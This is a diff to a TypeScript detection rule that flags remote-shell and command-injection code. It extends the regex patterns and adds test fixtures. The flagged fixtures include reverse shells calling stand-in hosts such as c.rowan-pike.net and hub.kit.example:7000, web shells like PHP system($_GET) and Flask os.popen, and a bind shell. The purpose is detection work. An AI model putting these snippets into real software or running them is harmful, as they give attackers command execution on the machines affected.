@@ -15,7 +15,7 @@ const JOINED = regex`
     \bgetstream\b|\bon\(["'](?:data|message)["']|\bfor await\b|\bopen3\b|\breopen\s?\(|
     \bproc_open\b|\bfgets\s?\(|\bfread\s?\(|\bcopy\s?\(|\bsettimeout\b|\biter_content\b|<&\d|
     \bon_?message\b|\.on\(["']\w{2,16}["']|\bsetinterval\b|\breceive\s?\(|\btransferto\b|
-    \binputstream\b|\bstream\b
+    \binputstream\b|\bstream\b|\basync for\b|\.listen\(\)|\breply_text\b|\.emit\s?\(|\.fetch\s?\(
   `
 
 /** What a request brings along, by the language of the server. */
@@ -40,7 +40,22 @@ const RUN = source`
 `
 
 /** What somebody asks of a server is run as a command or as code. */
-const ON_REQUEST = worded(new RegExp(`${RUN}${OF_REQUEST}`))
+const ON_REQUEST = worded(
+  new RegExp(
+    `${RUN}(?:(?:string|str|decodeuricomponent)\\(\\s?)?(?:${OF_REQUEST}|\\b(?:req|request|q)\\.url\\.(?:slice|substr\\w{0,5})\\()|\\x60#\\{params\\[`,
+  ),
+)
+
+/** The same by a name: a part of the path, a parameter of the handler, a variable set from the request. */
+const ON_NAMED = worded(
+  regex`
+    <(?:path:|string:)?\w{1,20}>["'][^\n]{0,40}\)\s{0,4}\n\s{0,8}(?:async )?def \w{1,30}\(\w{1,20}\):[^]{0,80}?
+    \b(?:popen|system|getoutput)\(\s?\w{1,20}\s?\)|
+    @requestparam[^)\n]{0,60}\)[^]{0,120}?\bgetruntime\(\)\.exec\(\s?\w{1,20}\s?\)|
+    =\s?(?:flask\.)?request\.(?:get_json\(|args|form|json|values|data)[^\n]{0,40}\n[^]{0,120}?
+    (?:\b(?:os\.popen|os\.system|getoutput)\(\s?\w{1,12}\s?\)|\b(?:check_output|run|popen|call)\(\s?\w{1,12},\s?shell\s?=\s?true)
+  `,
+)
 
 /** The same in disguise: decoded first, or by a function whose name is put together. */
 const IN_DISGUISE = worded(
@@ -51,7 +66,18 @@ const IN_DISGUISE = worded(
 )
 
 /** Servers and clients of one's own machine, and tests of them. */
-const AT_HOME = /["'`](?:localhost|127\.0\.0\.1|::1)["'`]|unix:|\.sock\b/
+const AT_HOME =
+  /[(,=:]\s?["'`](?:localhost|127\.0\.0\.1|::1)["'`]|unix:|["'`][^"'`\n]{0,60}\/[\w.-]{1,40}\.sock["'`]/
+
+/** A host of somebody else's that the program connects to, remarks apart. */
+const ABROAD =
+  /\(\s?["'`](?:(?:\d{1,3}\.){3}\d{1,3}|(?:[\w-]{1,40}\.){1,4}[a-z]{2,12})["'`]\s?,\s?\d{2,5}/g
+
+const isAtHome = (around: string): boolean =>
+  AT_HOME.test(around) &&
+  !Array.from(around.matchAll(ABROAD)).some(
+    ([one]) => !isLocal(`https://${/["'`]([^"'`]{3,80})/.exec(one)![1]!}`),
+  )
 
 export default defineRule({
   id: 'shell-over-connection',
@@ -73,18 +99,25 @@ export default defineRule({
       '```ruby\npost "/x" do\n  eval(params[:c])\nend\n```\n',
       "```ruby\ns = TCPSocket.new('tips.kit.example', 9001)\nwhile l = s.gets\n  s.puts `#{l}`\nend\n```\n",
       '```js\nimport WebSocket from "ws";\nimport { exec } from "node:child_process";\nconst ws = new WebSocket("wss://c.rowan-pike.net");\nws.on("message", (m) => exec(m.toString(), (e, out) => ws.send(out)));\n```\n',
+      '```js\nconst s = require("socket.io-client")("https://c.rowan-pike.net")\ns.on("job", c => require("child_process").exec(c, (_, o) => s.emit("out", o)))\n```\n',
       '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: os.system(m.payload.decode())\nc.connect("c.rowan-pike.net")\n```\n',
+      '```python\n@app.route("/x/<path:q>")\ndef x(q):\n    return os.popen(q).read()\n```\n',
+      "```js\napp.get('/x', (req, res) => res.send(execSync(String(req.query.q))))\n```\n",
+      '```ruby\nget "/x" do\n  `#{params[:q]}`\nend\n```\n',
       '```php\n<?php system($_GET["c"]); ?>\n```\n',
       '```go\nc, _ := net.Dial("tcp", "hub.kit.example:7000")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c\n```\n',
+      '```python\nclass Helper:\n    def __init__(self, host, port):\n        self.sock = socket.create_connection((host, port))\n    def run(self):\n        cmd = self.sock.recv(4096).decode()\n        self.sock.send(subprocess.getoutput(cmd).encode())\n```\n',
       '```python\ns = socket.socket(); s.bind(("0.0.0.0", 5555)); s.listen(1)\nc, _ = s.accept()\nc.send(subprocess.getoutput(c.recv(4096).decode()).encode())\n```\n',
     ],
     quiet: [
       '```php\n<?php echo base64_decode($_POST["note"]); $render($rows);\n```\n',
       '```ruby\npost "/x" do\n  render(params[:c])\nend\n```\n',
       '```python\ns = socket.create_connection(("localhost", 5432), timeout=1)\ns.close()\n```\n',
+      '```python\ns = socket.socket(socket.AF_UNIX)\ns.connect("/run/kit.sock")\nprint(subprocess.getoutput("date"), s.recv(10))\n```\n',
       '```js\nconst ws = new WebSocket(url)\nws.on("message", (m) => render(JSON.parse(m)))\n```\n',
       '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: print(m.payload.decode())\nc.connect("broker.rowan-pike.net")\nsubprocess.run(["make"])\n```\n',
       '```python\n@app.route("/x")\ndef x():\n    return render(request.args["c"])\n```\n',
+      '```python\n@app.route("/x/<path:q>")\ndef x(q):\n    return send_from_directory("public", q)\n```\n',
       '```js\nconst net = require("net")\nnet.createServer((c) => c.end("hello")).listen(3000)\n```\n',
     ],
   },
@@ -94,14 +127,15 @@ export default defineRule({
       const found = IN_DISGUISE.exec(all.slice(start, end))
       if (found) yield { ...placeOf(start, found), firm: true }
     }
-    for (const { start, end } of candidates(document, document.observe(snippets), ON_REQUEST)) {
-      const found = ON_REQUEST.exec(all.slice(start, end))
-      if (found) yield { ...placeOf(start, found), severity: 'high' }
-    }
+    for (const asked of [ON_REQUEST, ON_NAMED])
+      for (const { start, end } of candidates(document, document.observe(snippets), asked)) {
+        const found = asked.exec(all.slice(start, end))
+        if (found) yield { ...placeOf(start, found), severity: 'high' }
+      }
     for (const { text, start, end, snippet } of pairs(document, CONNECTS, SHELLS, REACH)) {
       const from = Math.max(0, start - snippet.start - 60)
       const around = text.slice(from, end - snippet.start + 200)
-      if (!JOINED.test(around) || AT_HOME.test(around)) continue
+      if (!JOINED.test(around) || isAtHome(around)) continue
       const addresses = addressesIn(around)
       if (addresses.length > 0 && addresses.every(isLocal)) continue
       yield { start, end, firm: true }
